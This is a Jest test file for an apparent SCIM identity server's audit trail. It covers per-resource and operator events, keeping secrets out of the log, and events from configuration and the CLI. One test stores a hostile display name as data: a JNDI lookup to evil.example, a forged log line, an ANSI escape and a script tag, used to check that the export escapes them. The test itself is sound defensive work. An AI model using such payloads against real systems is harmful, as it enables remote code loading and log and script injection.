import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import { DataSource } from 'typeorm';
import { run } from '../../src/cli/program.js';
import { prepareDefaultTenant } from '../../src/first-start.js';
import { dataSourceOptions } from '../../src/persistence/data-source.js';
import { createDatabase } from '../support/database.js';
import {
  adminToken,
  configuration,
  startAdministered,
  type AdministeredServer,
  type AdminToken,
} from '../support/admin.js';
import { allPages, type AuditEvent } from '../support/audit.js';
import type { Resource, ScimClient } from '../support/client.js';
import { urn } from '../support/expected.js';
import type { Client } from '../support/oauth.js';

let server: AdministeredServer;
beforeAll(async () => {
  server = await startAdministered({ LOOPBACK_ISSUERS: 'true' });
});
afterAll(() => server.close());

/** A tenant of a test's own, with a client of it. */
async function newTenant(): Promise<{ name: string; scim: ScimClient }> {
  const name = `tenant-${randomUUID()}`;
  return { name, scim: await server.admin.connect(name) };
}

const trail = (tenant: string, query = ''): Promise<AuditEvent[]> =>
  allPages(server.admin, `/tenants/${tenant}/audit${query}`);

const summary = ({ actor, operation, resourceType, changed, secrets }: AuditEvent): unknown[] => [
  ...[actor, operation, resourceType, changed, secrets],
];

describe('a change of a resource', () => {
  it('is one event: who, in which request, what, and before and after', async () => {
    const { name, scim } = await newTenant();
    const { body: tokens } = await server.admin.get<{ items: AdminToken[] }>(`/tenants/${name}/tokens`);
    const actor = `token:${tokens.items[0]?.id}`;
    const created = await scim.post('/Users', { userName: 'barbara', displayName: 'Babs' });
    const { id } = created.body;
    const patched = await scim.operations(`/Users/${id}`, [{ op: 'replace', path: 'displayName', value: 'Barbara' }]);
    const deleted = await scim.delete(`/Users/${id}`);
    const [third, second, first, ...others] = await trail(name, '?resourceType=User');
    expect(others).toEqual([]);
    const requestId = ({ headers }: { headers: Headers }): string | null => headers.get('X-Request-Id');
    const common = { id: expect.any(String), at: expect.any(String), actor, resourceType: 'User', resourceId: id };
    const nothing = { changed: [], secrets: [], members: null };
    const [before, after] = ['Babs', 'Barbara'].map((displayName) =>
      expect.objectContaining({ userName: 'barbara', displayName }),
    );
    expect(first).toEqual({
      ...{ ...common, ...nothing, requestId: requestId(created) },
      ...{ operation: 'create', before: null, after: before },
    });
    expect(second).toEqual({
      ...{ ...common, ...nothing, requestId: requestId(patched) },
      ...{ operation: 'patch', before, after, changed: ['displayName'] },
    });
    expect(third).toEqual({
      ...{ ...common, ...nothing, requestId: requestId(deleted) },
      ...{ operation: 'delete', before: after, after: null },
    });
  });

  it('shows that a password changed, and neither it nor its hash (RFC 7644 section 7.5)', async () => {
    const { name, scim } = await newTenant();
    const { body: user } = await scim.post('/Users', { userName: 'barbara', password: 'first-password' });
    const [{ hash } = { hash: '' }] = await server.dataSource.query<{ hash: string }[]>(
      'SELECT password_hash AS hash FROM users WHERE id = $1',
      [user.id],
    );
    await scim.operations(`/Users/${user.id}`, [{ op: 'replace', path: 'password', value: 'second-password' }]);
    const events = await trail(name, '?resourceType=User');
    expect(events.map(summary).map(([, ...rest]) => rest)).toEqual([
      ['patch', 'User', [], ['password']],
      ['create', 'User', [], ['password']],
    ]);
    const text = JSON.stringify(events);
    expect(hash.length).toBeGreaterThan(10);
    for (const secret of ['first-password', 'second-password', hash]) expect(text).not.toContain(secret);
  });

  it('names members that came and went', async () => {
    const { name, scim } = await newTenant();
    const { body: user } = await scim.post('/Users', { userName: 'barbara' });
    const { body: group } = await scim.post('/Groups', { displayName: 'Staff', members: [{ value: user.id }] });
    await scim.operations(`/Groups/${group.id}`, [{ op: 'remove', path: `members[value eq "${user.id}"]` }]);
    const events = await trail(name, `?resourceId=${group.id}`);
    expect(events.map(({ operation, members }) => [operation, members])).toEqual([
      ['patch', { added: [], removed: [user.id], addedCount: 0, removedCount: 1 }],
      ['create', { added: [user.id], removed: [], addedCount: 1, removedCount: 0 }],
    ]);
  });

  it('that fails or changes nothing is no event', async () => {
    const { name, scim } = await newTenant();
    const { body: user } = await scim.post('/Users', { userName: 'barbara' });
    expect((await scim.post('/Users', { userName: 'barbara' })).status).toBe(409);
    expect((await scim.put(`/Users/${user.id}`, { schemas: [urn.user], userName: 5 })).status).toBe(400);
    expect((await scim.operations(`/Users/${user.id}`, [{ op: 'add', path: 'active', value: true }])).status).toBe(200);
    expect((await trail(name, '?resourceType=User')).map(({ operation }) => operation)).toEqual(['create']);
  });

  it('keeps what was written as inert JSON: newlines, escapes, look-ups', async () => {
    const { name, scim } = await newTenant();
    const displayName = 'a\nFAKE {"actor":"admin"}\r\u001b[31m${jndi:ldap://evil.example/a}\u2028<script>';
    expect((await scim.post('/Users', { userName: 'barbara', displayName })).status).toBe(201);
    const { text } = await server.admin.get(`/tenants/${name}/audit/export?resourceType=User`);
    expect(text.split('\n').length).toBe(2);
    expect([...text].filter((char) => char < ' ')).toEqual(['\n']);
    expect((JSON.parse(text) as AuditEvent).after?.['displayName']).toBe(displayName);
  });
});

describe('a change by an operator', () => {
  it('is one event each, in the same request, and holds no secret', async () => {
    const { name } = await newTenant();
    const path = `/tenants/${name}`;
    const secrets: string[] = [];
    const issue = async <T extends { id: string; secret: string }>(at: string, body: object): Promise<T> => {
      const answer = await server.admin.post<T>(path + at, body as Resource);
      expect([at, answer.status]).toEqual([at, 201]);
      if (answer.body.secret) secrets.push(answer.body.secret);
      return answer.body;
    };
    const token = await issue<AdminToken>('/tokens', { name: 'Okta' });
    const rotated = await issue<AdminToken>(`/tokens/${token.id}/rotate`, { overlapSeconds: 60 });
    await server.admin.delete(`${path}/tokens/${token.id}`);
    const client = await issue<Client>('/clients', { name: 'Entra' });
    await issue(`/clients/${client.id}/rotate`, { overlapSeconds: 60 });
    await server.admin.delete(`${path}/clients/${client.id}`);
    const issuer = { issuer: 'http://127.0.0.1:9/a', audience: name, scopes: ['read'] };
    const { id: issuerId } = await issue<AdminToken>('/issuers', issuer);
    await server.admin.put(`${path}/issuers/${issuerId}`, { ...issuer, scopes: ['read', 'write'] });
    await server.admin.delete(`${path}/issuers/${issuerId}`);
    await server.admin.patch(`${path}/settings`, { profile: 'strict', maxPageSize: 10 });
    await server.admin.send('POST', `${path}/suspend`, undefined);
    await server.admin.send('POST', `${path}/resume`, undefined);
    await server.admin.patch(path, { name: `${name.slice(0, 40)}-new` });
    const events = await trail(`${name.slice(0, 40)}-new`);
    expect(events.map(summary)).toEqual(
      [
        ['create', 'Token', [], ['secret']],
        ['create', 'Token', [], ['secret']],
        ['rotate', 'Token', expect.arrayContaining(['id', 'prefix']), ['secret']],
        ['revoke', 'Token', ['expiresAt', 'revokedAt'], []],
        ['create', 'Client', [], ['secret']],
        ['rotate', 'Client', ['secrets'], ['secret']],
        ['revoke', 'Client', [], []],
        ['create', 'Issuer', [], []],
        ['update', 'Issuer', ['scopes'], []],
        ['delete', 'Issuer', [], []],
        ['update', 'Tenant', ['settings'], []],
        ['suspend', 'Tenant', ['state'], []],
        ['resume', 'Tenant', ['state'], []],
        ['update', 'Tenant', ['name'], []],
      ]
        .map((event) => ['admin', ...event])
        .reverse(),
    );
    const settings = events.find(({ changed }) => changed.includes('settings'));
    expect([settings?.before?.['settings'], settings?.after?.['settings']]).toEqual([
      expect.objectContaining({ profile: 'default', maxPageSize: null }),
      expect.objectContaining({ profile: 'strict', maxPageSize: 10 }),
    ]);
    const rows = JSON.stringify(await server.dataSource.query('SELECT * FROM audit_events'));
    const hashes = await server.dataSource.query<{ hash: Buffer }[]>('SELECT secret_hash AS hash FROM tokens');
    expect([secrets.length, rotated.id === token.id, hashes.length > 0]).toEqual([4, false, true]);
    for (const secret of secrets) expect(rows).not.toContain(secret);
    for (const { hash } of hashes) {
      for (const encoding of ['base64', 'hex'] as const) expect(rows).not.toContain(hash.toString(encoding));
    }
  });

  it('that changes nothing, or is refused, is no event', async () => {
    const { name } = await newTenant();
    const before = await trail(name);
    await server.admin.send('POST', `/tenants/${name}/resume`, undefined);
    await server.admin.patch(`/tenants/${name}/settings`, { profile: 'default' });
    expect((await server.admin.patch(`/tenants/${name}`, { name: 'default' })).status).toBe(409);
    expect((await server.admin.delete(`/tenants/${name}/tokens/${randomUUID()}`)).status).toBe(404);
    expect((await server.admin.post('/tenants', { name })).status).toBe(409);
    expect(await trail(name)).toEqual(before);
  });

  it('does not happen when its event cannot be written', async () => {
    const { name } = await newTenant();
    const refuse = (operation: string): Promise<unknown> =>
      server.dataSource.query(
        `ALTER TABLE audit_events ADD CONSTRAINT refuse CHECK (operation <> '${operation}') NOT VALID`,
      );
    const allow = (): Promise<unknown> => server.dataSource.query('ALTER TABLE audit_events DROP CONSTRAINT refuse');
    await refuse('suspend');
    expect((await server.admin.send('POST', `/tenants/${name}/suspend`, undefined)).status).toBe(500);
    await allow();
    await refuse('create');
    expect((await server.admin.post(`/tenants/${name}/tokens`, { name: 'second' })).status).toBe(500);
    await allow();
    const { body: tenant } = await server.admin.get<{ state: string }>(`/tenants/${name}`);
    const { body: tokens } = await server.admin.get<{ items: AdminToken[] }>(`/tenants/${name}/tokens`);
    expect([tenant.state, tokens.items.map((token) => token.name)]).toEqual(['active', ['test']]);
  });
});

describe('the trail of the installation', () => {
  it('says which tenants came and went, and outlives them', async () => {
    const { name, scim } = await newTenant();
    await scim.post('/Users', { userName: 'barbara' });
    const { body: tenant } = await server.admin.get<{ id: string }>(`/tenants/${name}`);
    const erased = await server.admin.delete(`/tenants/${name}?name=${name}`);
    const events = await allPages<AuditEvent>(server.admin, `/audit?resourceId=${tenant.id}`);
    expect(events.map(({ operation, before, after }) => [operation, before?.['name'], after?.['name']])).toEqual([
      ['delete', name, undefined],
      ['create', undefined, name],
    ]);
    expect([events[0]?.actor, events[0]?.requestId]).toEqual(['admin', erased.headers.get('X-Request-Id')]);
    const left = await server.dataSource.query<unknown[]>('SELECT 1 FROM audit_events WHERE tenant_id = $1', [
      tenant.id,
    ]);
    expect(left).toEqual([]);
    const { text } = await server.admin.get(`/audit/export?resourceId=${tenant.id}`);
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(events);
  });

  it('names the configuration for what a start makes, once', async () => {
    const own = await startAdministered({ SCIM_TOKEN: 'configured-secret-of-32-characters-or-more' });
    for (const scimToken of [
      'configured-secret-of-32-characters-or-more',
      'another-secret-of-32-characters-or-more',
      'another-secret-of-32-characters-or-more',
    ]) {
      await prepareDefaultTenant(own.app, configuration({ SCIM_TOKEN: scimToken }));
    }
    const events = [
      ...(await allPages<AuditEvent>(own.admin, '/tenants/default/audit')),
      ...(await allPages<AuditEvent>(own.admin, '/audit')),
    ];
    expect(events.map((event) => summary(event).slice(0, 3))).toEqual([
      ['config', 'rotate', 'Token'],
      ['config', 'create', 'Token'],
      ['config', 'create', 'Tenant'],
    ]);
    expect(JSON.stringify(events)).not.toMatch(/configured-secret|another-secret/);
    await own.close();
  });

  it('names the command line for what a command makes', async () => {
    const { database, drop } = await createDatabase();
    const written: string[] = [];
    const surroundings = {
      terminal: { write: (text: string) => void written.push(text), remark: () => undefined },
      readConfig: () => configuration({ ADMIN_TOKEN: adminToken }),
      withDatabase: <T>(_config: unknown, work: (on: typeof database) => Promise<T>) => work(database),
    };
    const rollcall = (...argv: string[]) => run(argv, surroundings, () => Promise.resolve());
    expect(await rollcall('tenant', 'create', 'acme')).toBe(0);
    expect(await rollcall('token', 'create', 'acme', '--name', 'Okta')).toBe(0);
    expect(await rollcall('tenant', 'suspend', 'acme')).toBe(0);
    const dataSource = await new DataSource(dataSourceOptions(database)).initialize();
    const events = await dataSource.query<{ operation: string; type: string; actor: string; request: string }[]>(
      'SELECT actor, operation, resource_type AS type, request_id AS request FROM audit_events ORDER BY id',
    );
    await dataSource.destroy();
    expect(events.map(({ actor, operation, type }) => [actor, operation, type])).toEqual([
      ['cli', 'create', 'Tenant'],
      ['cli', 'create', 'Token'],
      ['cli', 'suspend', 'Tenant'],
    ]);
    expect(new Set(events.map(({ request }) => request)).size).toBe(3);
    await drop();
  });
});
